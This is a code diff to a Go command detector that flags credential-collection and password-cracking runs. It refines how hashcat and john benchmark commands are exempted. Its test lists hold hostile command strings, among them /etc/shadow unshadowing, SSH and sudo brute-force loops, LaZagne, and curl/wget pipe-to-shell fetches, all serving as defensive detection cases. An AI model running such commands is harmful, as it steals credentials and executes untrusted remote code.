@@ -15,9 +15,9 @@ var credScanner = Detector{
 	Title:  "credential collector run",
 	Why:    "the program searches a whole system for secrets or for a way to root",
 	Detect: onCommands(scanner),
-	Fire: append(lines(coi.Warning, "john /tmp/unshadowed", "unshadow /etc/passwd /etc/shadow > h; john h", "for p in $(cat words); do sshpass -p $p ssh root@10.0.0.7 id && echo $p; done", "for p in $(cat pw.txt); do echo $p | sudo -S -k true && echo $p; done"), lines(coi.High, "trufflehog filesystem / --json", "gitleaks dir ~ -v", "gitleaks detect --no-git -s /home", "python3 /tmp/LaZagne/Linux/laZagne.py all", "./linpeas.sh -a", "curl -L https://example.com/linpeas.sh | sh", "bash LinEnum.sh -t", "/tmp/pspy64", "trufflehog filesystem --directory=/root", "wget https://example.com/mimipenguin.sh -O- | bash",
+	Fire: append(lines(coi.Warning, "john /tmp/unshadowed", "hashcat -m 1800 /tmp/h /tmp/w -b", "hashcat -b -m 1800 /tmp/h", "hashcat /tmp/h -I", "john /tmp/h --session=--list=x", "john --test /tmp/h", "john /tmp/h --list=x", "john --session=--test /tmp/h", "unshadow /etc/passwd /etc/shadow > h; john h", "for p in $(cat words); do sshpass -p $p ssh root@10.0.0.7 id && echo $p; done", "for p in $(cat pw.txt); do echo $p | sudo -S -k true && echo $p; done"), lines(coi.High, "trufflehog filesystem / --json", "gitleaks dir ~ -v", "gitleaks detect --no-git -s /home", "python3 /tmp/LaZagne/Linux/laZagne.py all", "./linpeas.sh -a", "curl -L https://example.com/linpeas.sh | sh", "bash LinEnum.sh -t", "/tmp/pspy64", "trufflehog filesystem --directory=/root", "wget https://example.com/mimipenguin.sh -O- | bash",
 		"responder -I eth0 -wf", "noseyparker scan /home", "detect-secrets scan /", "./laZagne all")...),
-	Quiet: lines("", "hydra -h", "hashcat --benchmark", "hashcat -b -m 1800", "hashcat -m 0 testdata/hashes.txt words.txt", "john hashes.txt", "john --test=0", "gitleaks git .", "gitleaks dir ~/leaky-repo/", "trufflehog git file://. --since-commit HEAD", "trufflehog filesystem . --only-verified", "gitleaks detect --source . -v", "detect-secrets scan", "cat linpeas.sh", "git clone https://example.com/LaZagne"),
+	Quiet: lines("", "hydra -h", "hashcat --benchmark", "hashcat -b -m 1800", "hashcat -I", "hashcat --benchmark -m 0 -D 1,2", "john --list=formats", "john --test=0 --format=raw-md5", "hashcat -m 0 testdata/hashes.txt words.txt", "john hashes.txt", "john --test=0", "gitleaks git .", "gitleaks dir ~/leaky-repo/", "trufflehog git file://. --since-commit HEAD", "trufflehog filesystem . --only-verified", "gitleaks detect --source . -v", "detect-secrets scan", "cat linpeas.sh", "git clone https://example.com/LaZagne"),
 }
 
 // guesses reports a login whose password comes from a list.
@@ -58,6 +58,24 @@ func ownHashes(s *command.Simple, v track.View) bool {
 	return files > 0 && s.Abs(s.Prog) != "" && !program.Writable(s.Prog)
 }
 
+// onlyMeasures reports a cracker that is told to test its speed or to list what it
+// knows, and is given nothing to crack.
+func onlyMeasures(s *command.Simple) bool {
+	told := false
+	for i, a := range s.Argv[min(1, len(s.Argv)):] {
+		name, _, valued := strings.Cut(a, "=")
+		switch {
+		case s.Name == "hashcat" && oneOf(a, "-b", "-I", "--benchmark", "--backend-info"), s.Name == "john" && (name == "--test" || name == "--list" && valued):
+			told = true
+		case strings.HasPrefix(a, "-"):
+		case i > 0 && strings.HasPrefix(s.Argv[i], "-") && !oneOf(s.Argv[i], "-b", "-I") && strings.Trim(a, "0123456789,") == "": // the value of an option
+		default:
+			return false
+		}
+	}
+	return told
+}
+
 func scanner(s *command.Simple, v track.View) *Finding {
 	if textual(s) || s.Class() == program.Reader || s.Class() == program.VCS {
 		return nil
@@ -65,7 +83,7 @@ func scanner(s *command.Simple, v track.View) *Finding {
 	if len(s.Argv) == 2 && s.Arg("-h", "--help", "--version", "-V", "--benchmark") {
 		return nil
 	}
-	if s.Name == "hashcat" && s.Arg("-b", "-I", "--benchmark", "--backend-info") || s.Name == "john" && hasAny(s.Line(), "--test", "--list=") {
+	if onlyMeasures(s) {
 		return nil
 	}
 	if s.Loop && guesses(s) {
